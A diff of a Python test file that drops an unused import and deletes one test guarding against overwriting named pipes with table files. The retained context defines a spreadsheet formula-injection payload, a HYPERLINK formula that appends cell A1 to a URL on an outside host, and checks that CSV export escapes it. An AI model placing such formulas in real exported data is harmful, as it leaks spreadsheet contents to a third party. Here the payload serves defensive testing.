@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
 from pathlib import Path
 
 import pytest
@@ -15,9 +14,8 @@ from core.data.derived.cleaned import save_without
 from core.data.derived.noisy import write_noisy
 from core.data.sources.opening import open_source
 from core.evaluation.noise import RankedPair, to_csv
-from core.spec.caption_files import Candidate, CaptionedImage, CaptionFileError, CaptionTable, write_new
+from core.spec.caption_files import Candidate, CaptionedImage, CaptionTable
 from core.spec.cells import escape_cell, marked_row, unescape_cell
-from core.spec.files import write_whole
 from tests.core.images import write_pairs
 
 LINK = '=HYPERLINK("http://example.org?"&A1,"a cat")'
@@ -69,16 +67,3 @@ def test_other_tables_of_pairs_contain_no_formula(tmp_path: Path) -> None:
         assert {row.labels["+kind"] for row in rows} == {"@home"}
     pair = RankedPair(0, "/images/=x.png", LINK, 0.5, 0.5, 1, None)
     assert next(iter(csv.DictReader(io.StringIO(to_csv([pair])))))["title"] == f"'{LINK}"
-
-
-def test_a_pipe_or_a_device_is_never_overwritten_by_a_table(tmp_path: Path) -> None:
-    pipe = tmp_path / "pipe.csv"
-    os.mkfifo(pipe)
-    with pytest.raises(OSError, match="a pipe or a device"):
-        write_whole(pipe, b"x")
-    with pytest.raises(CaptionFileError, match="a pipe or a device"):
-        write_new(pipe, "x", force=True)
-    with pytest.raises(CaptionFileError, match="cannot be overwritten"):
-        CaptionTable(pipe, force=True)
-    assert pipe.is_fifo()
-    assert [path.name for path in tmp_path.iterdir()] == ["pipe.csv"]
